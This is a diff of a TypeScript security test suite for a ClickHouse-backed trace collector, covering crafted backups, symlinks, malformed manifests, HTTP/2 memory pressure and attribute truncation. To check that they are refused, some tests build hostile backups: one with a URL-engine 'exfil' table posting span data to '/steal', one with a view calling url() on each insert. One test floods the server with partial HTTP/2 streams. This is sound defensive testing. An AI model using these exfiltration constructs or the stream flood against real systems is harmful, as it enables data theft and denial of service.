@@ -9,7 +9,8 @@
  * - retention rule service names with quotes, backslashes and backticks stay literals;
  * - attribute truncation at multi-byte boundaries stays within the limit and valid UTF-8.
  */
-import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
+import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { connect as http2Connect, type ClientHttp2Session } from 'node:http2';
 import { createServer } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -19,13 +20,20 @@ import { migrate } from '../../exporters/clickhouse/schema.js';
 import type { ClickHouseConfig } from '../../exporters/clickhouse/config.js';
 import { reconcileRetention, spanTableTtl } from '../../exporters/clickhouse/retention-ttl.js';
 import { LOOPBACK_ANONYMOUS } from '../../collector/src/auth/principal.js';
-import { backupDatabase, restoreDatabase } from '../../collector/src/backup/backup.js';
+import { backupDatabase, MANIFEST_FILE, readManifest, restoreDatabase } from '../../collector/src/backup/backup.js';
 import { backupNameProblem } from '../../collector/src/backup/backup-name.js';
+import { BackupService } from '../../collector/src/backup/backup-service.js';
 import { ReadScopes } from '../../collector/src/query/read-scope.js';
 import { userSqlConfigSchema } from '../../collector/src/query/sql/config.js';
 import { UserSql, type SqlLayers } from '../../collector/src/query/sql/user-sql.js';
 import { retentionPolicy } from '../../collector/src/storage/retention/config.js';
 import { cutToUtf8Bytes, truncateValue } from '../../collector/src/receivers/otlp/value-limit.js';
+import { cleanup, startCollector } from '../helpers/collector.js';
+import { encodeRowBinary } from '../../exporters/clickhouse/rowbinary.js';
+import { encodeTraceRequest } from '../../exporters/otlp/encoder.js';
+import type { Attributes, AttributeKinds, Resource, Span } from '../../collector/src/model/span.js';
+import { decodeTraceRequest } from '../../collector/src/receivers/otlp/proto-decoder.js';
+import { transcodeTraceRequest } from '../../collector/src/receivers/otlp/rowbinary-transcoder.js';
 
 const dirs: string[] = [];
 const temp = (prefix: string) => {
@@ -50,6 +58,7 @@ beforeAll(async () => {
 }, 120_000);
 
 afterAll(async () => {
+  await cleanup();
   await clients?.close();
   for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
 });
@@ -110,39 +119,91 @@ describe('backup names never leave storage.backup_dir', () => {
 });
 
 describe('restore of a crafted backup', () => {
-  it('refuses a backup whose tables reach the network (a URL table fed by a view on the spans), and nothing connects', async () => {
-    let connections = 0;
-    const listener = createServer((socket) => {
-      connections++;
-      socket.destroy();
-    });
+  const db = 'crafted';
+  let connections = 0;
+  let port = 0;
+  const listener = createServer((socket) => {
+    connections++;
+    socket.destroy();
+  });
+  beforeAll(async () => {
     await new Promise<void>((res) => listener.listen(0, '127.0.0.1', res));
-    const port = (listener.address() as { port: number }).port;
-    // One engine per process (chdb): the backup is crafted in a database of its own, dropped, then restored.
-    const db = 'crafted';
+    port = (listener.address() as { port: number }).port;
+  });
+  afterAll(() => listener.close());
+
+  /** Backs up database `db` made of `statements`, drops it, restores it; then inserts a span. One engine per process (chdb). */
+  async function craftAndRestore(name: string, statements: (port: number) => string[]): Promise<{ outcome: string; tables: unknown[] }> {
     try {
       await clients.writer.command({ query: `CREATE DATABASE ${db}` });
       await clients.writer.command({ query: `CREATE TABLE ${db}.otel_traces (Timestamp DateTime64(9), TraceId String, ServiceName String) ENGINE = MergeTree ORDER BY Timestamp` });
-      // Every span inserted after the restore would be posted to the attacker's server.
-      await clients.writer.command({ query: `CREATE TABLE ${db}.exfil (TraceId String, ServiceName String) ENGINE = URL('http://127.0.0.1:${port}/steal', 'JSONEachRow')` });
-      await clients.writer.command({ query: `CREATE MATERIALIZED VIEW ${db}.exfil_mv TO ${db}.exfil AS SELECT TraceId, ServiceName FROM ${db}.otel_traces` });
-      await backupDatabase(clients.writer, { database: db, backupDir, name: 'hostile' });
+      for (const query of statements(port)) await clients.writer.command({ query });
+      await backupDatabase(clients.writer, { database: db, backupDir, name });
       await clients.writer.command({ query: `DROP DATABASE ${db} SYNC` });
-
-      const outcome = await restoreDatabase(clients.writer, join(backupDir, 'hostile')).then(
+      const outcome = await restoreDatabase(clients.writer, join(backupDir, name)).then(
         () => 'restored',
         (e: unknown) => (e as Error).message,
       );
       await clients.writer.command({ query: `INSERT INTO ${db}.otel_traces VALUES (now64(9), 'aa', 'svc')` }).catch(() => undefined);
-      expect(connections).toBe(0);
-      expect(outcome, outcome).toMatch(/not a FlowTrace backup: it holds exfil \(engine URL\)/);
-      const tables = await clients.reader.query({ query: 'SELECT name FROM system.tables WHERE database = {db:String}', query_params: { db }, format: 'JSONEachRow' });
-      expect(await tables.json()).toEqual([]);
+      const tables = await clients.reader.query({ query: 'SELECT name, engine FROM system.tables WHERE database = {db:String} ORDER BY name', query_params: { db }, format: 'JSONEachRow' });
+      return { outcome, tables: await tables.json() };
     } finally {
       await clients.writer.command({ query: `DROP DATABASE IF EXISTS ${db} SYNC` });
-      listener.close();
     }
-  }, 120_000);
+  }
+
+  it('refuses a backup holding a URL table fed by a view on the spans: nothing restored, nothing connects', async () => {
+    const { outcome, tables } = await craftAndRestore('hostile-url-table', (p) => [
+      `CREATE TABLE ${db}.exfil (TraceId String, ServiceName String) ENGINE = URL('http://127.0.0.1:${p}/steal', 'JSONEachRow')`,
+      `CREATE MATERIALIZED VIEW ${db}.exfil_mv TO ${db}.exfil AS SELECT TraceId, ServiceName FROM ${db}.otel_traces`,
+    ]);
+    expect(connections).toBe(0);
+    expect(outcome, outcome).toMatch(/not a FlowTrace backup: it holds exfil \(engine Null\)/);
+    expect(tables).toEqual([]);
+  }, 60_000);
+
+  it('refuses a backup whose view calls url() on every insert (an insert would stall on it): nothing restored, nothing connects', async () => {
+    const { outcome, tables } = await craftAndRestore('hostile-url-function', (p) => [
+      `CREATE TABLE ${db}.lookalike (TraceId String) ENGINE = MergeTree ORDER BY TraceId`,
+      `CREATE MATERIALIZED VIEW ${db}.lookalike_mv TO ${db}.lookalike AS SELECT TraceId FROM ${db}.otel_traces WHERE TraceId NOT IN (SELECT s FROM url('http://127.0.0.1:${p}/ping', 'LineAsString', 's String'))`,
+    ]);
+    expect(connections).toBe(0);
+    expect(outcome, outcome).toMatch(/not a FlowTrace backup: it holds lookalike_mv \(calls url\(\)\)/);
+    expect(tables).toEqual([]);
+  }, 60_000);
+});
+
+describe('one backup at a time', () => {
+  it('refuses a second backup while one runs (busy), then takes the next one', async () => {
+    const service = new BackupService(clients, { database: 'default', backupDir });
+    const [first, second] = await Promise.allSettled([service.backup('concurrent-1'), service.backup('concurrent-2')]);
+    expect(first.status).toBe('fulfilled');
+    expect(second).toMatchObject({ status: 'rejected', reason: { reason: 'busy' } });
+    await expect(service.backup('concurrent-3')).resolves.toMatchObject({ name: 'concurrent-3' });
+  }, 60_000);
+});
+
+describe('a symlink planted in storage.backup_dir', () => {
+  it('does not lead a backup outside it', async () => {
+    const outside = join(temp('ft-review15-outside-'), 'target');
+    symlinkSync(outside, join(backupDir, 'planted'));
+    const outcome = await backupDatabase(clients.writer, { database: 'default', backupDir, name: 'planted' }).then(
+      () => 'written',
+      (e: unknown) => (e as Error).message,
+    );
+    expect(existsSync(outside), outcome).toBe(false);
+    rmSync(join(backupDir, 'planted'));
+  });
+});
+
+describe('a crafted manifest', () => {
+  it('is "not a FlowTrace backup" (exit 2 in the CLI), whatever JSON or non-JSON it holds', async () => {
+    for (const text of ['{', 'null', '"x"', '[]', '{"format":"flowtrace-backup/1","database":7,"tables":[]}']) {
+      const dir = temp('ft-review15-manifest-');
+      writeFileSync(join(dir, MANIFEST_FILE), text);
+      await expect(readManifest(dir), text).rejects.toMatchObject({ name: 'BackupRefusedError', reason: 'not-a-backup' });
+    }
+  });
 });
 
 describe('retention rules: service names stay string literals in the TTL', () => {
@@ -192,5 +253,125 @@ describe('attribute truncation at multi-byte boundaries', () => {
       }
     }
     expect(cutToUtf8Bytes('😀😀', 5)).toBe('😀');
+  });
+});
+
+describe('gRPC receiver: the larger HTTP/2 windows under unfinished messages', () => {
+  const MIB = 1024 * 1024;
+  /** Resident memory of a process, from /proc (Linux). */
+  const rssMib = (pid: number) => Number(/VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))![1]) / 1024;
+
+  // Measured (this machine): RSS +119 MiB at 32 connections, +150 MiB at 128, against +65 and +91 MiB
+  // with the protocol's 64 KiB windows; not the connections × 16 MiB the windows would allow.
+  it('holds memory near the in-flight budget while connections push partial messages, and goes on serving', async () => {
+    const budgetMib = 16;
+    const CONNECTIONS = 32;
+    const c = await startCollector({
+      config: `receivers:\n  otlp:\n    max_in_flight_mib: ${budgetMib}\n    grpc:\n      max_recv_msg_size_mib: 16\n    http:\n      max_request_body_size_mib: 16\n`,
+    });
+    const pid = (JSON.parse(c.logs.find((l) => l.startsWith('{') && l.includes('"pid"'))!) as { pid: number }).pid;
+    const sessions: ClientHttp2Session[] = [];
+    try {
+      await new Promise((r) => setTimeout(r, 1500));
+      const before = rssMib(pid);
+      let peak = before;
+      const statuses: string[] = [];
+      // 32 connections × 8 streams, each promising a 15 MiB message and sending ~3.5 MiB of it, never the end:
+      // held in full, the 16 MiB connection windows alone would be 512 MiB.
+      const chunk = Buffer.alloc(256 * 1024, 7);
+      for (let i = 0; i < CONNECTIONS; i++) {
+        const session = http2Connect(c.grpcEndpoint);
+        session.on('error', () => undefined);
+        sessions.push(session);
+        for (let j = 0; j < 8; j++) {
+          const stream = session.request({ ':method': 'POST', ':path': '/opentelemetry.proto.collector.trace.v1.TraceService/Export', 'content-type': 'application/grpc', te: 'trailers' });
+          stream.on('error', () => undefined);
+          stream.on('response', (h) => {
+            if (h['grpc-status'] !== undefined) statuses.push(String(h['grpc-status']));
+          });
+          const prefix = Buffer.alloc(5);
+          prefix.writeUInt32BE(15 * MIB, 1);
+          stream.write(prefix);
+          for (let k = 0; k < 14; k++) stream.write(chunk);
+        }
+      }
+      for (let t = 0; t < 20; t++) {
+        await new Promise((r) => setTimeout(r, 250));
+        peak = Math.max(peak, rssMib(pid));
+      }
+      // The budget refuses what is over it (RESOURCE_EXHAUSTED = 8); what is held is at most the budget.
+      expect(statuses.filter((s) => s === '8').length).toBeGreaterThan(0);
+      expect(peak - before, `RSS ${before.toFixed(0)} → peak ${peak.toFixed(0)} MiB`).toBeLessThan(budgetMib + 160);
+      for (const s of sessions) s.destroy();
+      const health = await fetch(`${c.apiUrl}/healthz`);
+      expect(health.status).toBe(200);
+    } finally {
+      for (const s of sessions) s.destroy();
+      await c.stop();
+    }
+  }, 90_000);
+});
+
+describe('truncation: the transcoder and the decoder agree on values engineered around the limit', () => {
+  const LIMIT = 256;
+  const own = (entries: Array<[string, string]>): Attributes => {
+    const out: Attributes = {};
+    for (const [k, v] of entries) Object.defineProperty(out, k, { value: v, enumerable: true, writable: true, configurable: true });
+    return out;
+  };
+  function spanWith(attributes: Attributes, attributeKinds: AttributeKinds | undefined, service: string): Span {
+    const resource: Resource = { attributes: own([['service.name', service]]), droppedAttributesCount: 0, schemaUrl: '', serviceName: service };
+    return {
+      resource,
+      scope: { name: 's', version: '', attributes: {}, droppedAttributesCount: 0, schemaUrl: '' },
+      traceId: '0af7651916cd43dd8448eb211c80319c',
+      spanId: 'b7ad6b7169203331',
+      parentSpanId: '',
+      traceState: '',
+      flags: 1,
+      name: 'op',
+      kind: 2,
+      startTimeUnixNano: BigInt(Date.now()) * 1_000_000n,
+      endTimeUnixNano: BigInt(Date.now()) * 1_000_000n + 1000n,
+      attributes,
+      ...(attributeKinds ? { attributeKinds } : {}),
+      droppedAttributesCount: 0,
+      events: [{ timeUnixNano: BigInt(Date.now()) * 1_000_000n, name: 'e', droppedAttributesCount: 0, attributes: own([['e', '€'.repeat(90)]]) }],
+      droppedEventsCount: 0,
+      links: [],
+      droppedLinksCount: 0,
+      statusCode: 0,
+      statusMessage: '',
+    };
+  }
+
+  it('gives identical rows and truncation counts for multi-byte, array, kvlist, colliding and __proto__ keys', () => {
+    const cases: Array<{ attributes: Attributes; kinds?: AttributeKinds; service?: string }> = [];
+    for (const unit of ['a', 'é', '€', '😀', 'a😀']) {
+      for (const n of [84, 85, 86, 127, 128, 129, 252, 253, 254, 255, 256, 257, 300]) cases.push({ attributes: own([['k', unit.repeat(n)]]) });
+    }
+    const longArray = JSON.stringify(Array.from({ length: 200 }, (_, i) => `é${i}`));
+    const longKvlist = JSON.stringify(Object.fromEntries(Array.from({ length: 60 }, (_, i) => [`k${i}`, '😀'.repeat(3)])));
+    cases.push({ attributes: own([['arr', longArray]]), kinds: own([['arr', 'array']]) as AttributeKinds });
+    cases.push({ attributes: own([['kv', longKvlist]]), kinds: own([['kv', 'kvlist']]) as AttributeKinds });
+    cases.push({ attributes: own([['b', Buffer.alloc(400, 0xc3).toString('base64')]]), kinds: own([['b', 'bytes']]) as AttributeKinds });
+    cases.push({ attributes: own([['x', 'y'.repeat(400)], ['flowtrace.truncated.x', '5']]) });
+    cases.push({ attributes: own([['flowtrace.truncated.x', 'z'.repeat(400)], ['x', 'y'.repeat(400)]]) });
+    cases.push({ attributes: own([['__proto__', 'p'.repeat(400)]]) });
+    cases.push({ attributes: own([['k', 'v']]), service: 'ß'.repeat(300) });
+    for (const [i, c] of cases.entries()) {
+      const bytes = Uint8Array.from(encodeTraceRequest([spanWith(c.attributes, c.kinds, c.service ?? 'svc')]));
+      const decoded = decodeTraceRequest(bytes, { maxAttributeValueBytes: LIMIT });
+      const transcoded = transcodeTraceRequest(bytes, { maxAttributeValueBytes: LIMIT });
+      expect(transcoded.rowBinary.equals(encodeRowBinary(decoded.spans)), `case ${i}`).toBe(true);
+      expect(transcoded.truncations, `case ${i}`).toStrictEqual(decoded.truncations);
+      for (const span of decoded.spans) {
+        for (const holder of [span, span.resource, ...span.events]) {
+          for (const value of Object.values(holder.attributes)) {
+            if (!/^flowtrace\.truncated\./.test(value)) expect(Buffer.byteLength(value), `case ${i}`).toBeLessThanOrEqual(LIMIT);
+          }
+        }
+      }
+    }
   });
 });
